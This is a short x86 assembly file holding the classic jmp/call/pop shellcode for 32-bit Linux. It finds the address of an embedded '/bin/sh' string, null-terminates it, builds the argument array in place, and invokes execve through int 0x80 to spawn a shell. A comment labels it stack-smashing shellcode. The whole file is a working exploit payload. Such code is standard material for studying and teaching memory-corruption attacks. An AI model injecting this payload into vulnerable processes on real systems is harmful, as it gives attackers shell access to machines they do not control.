; GetPC by jmp/call/pop (the classic stack-smashing shellcode): jump to a
; call at the end, which calls back to a pop of the string's address.
BITS 32
    jmp short getaddr
start:
    pop esi
    xor eax, eax
    mov [esi + 7], al
    mov [esi + 8], esi
    mov [esi + 12], eax
    mov al, 11                  ; execve
    mov ebx, esi
    lea ecx, [esi + 8]
    lea edx, [esi + 12]
    int 0x80
getaddr:
    call start
    db "/bin/shNAAAABBBB"
